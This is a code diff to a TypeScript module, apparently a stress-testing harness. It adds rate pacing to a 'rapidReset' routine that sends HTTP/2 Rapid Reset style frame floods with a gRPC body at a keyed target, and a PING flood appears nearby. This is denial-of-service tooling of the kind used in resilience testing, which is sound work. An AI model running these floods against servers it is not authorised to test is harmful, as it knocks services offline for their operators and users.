@@ -185,6 +185,7 @@ export function rapidReset(channel: string, perSecond = 20_000): Attack {
       ['authorization', `apikey ${target.key}`],
     ]);
     const body = grpcMessage(publishRequest(channel, '{"reset":true}'));
+    const started = Date.now();
     return repeat(
       'Rapid Reset with a body',
       target,
@@ -204,10 +205,17 @@ export function rapidReset(channel: string, perSecond = 20_000): Attack {
           }
           if (!(await peer.write(Buffer.concat(frames)))) return;
           report.r.sent += 100;
+          await pace(report.r.sent, perSecond, started);
         }
       },
     );
   };
+}
+
+/** Waits until `sent` items are due at `perSecond` since `started`. */
+async function pace(sent: number, perSecond: number, started: number): Promise<void> {
+  const wait = started + (sent / perSecond) * 1000 - Date.now();
+  if (wait > 0) await new Promise((r) => setTimeout(r, wait));
 }
 
 /** PING frames as fast as the server reads them. */
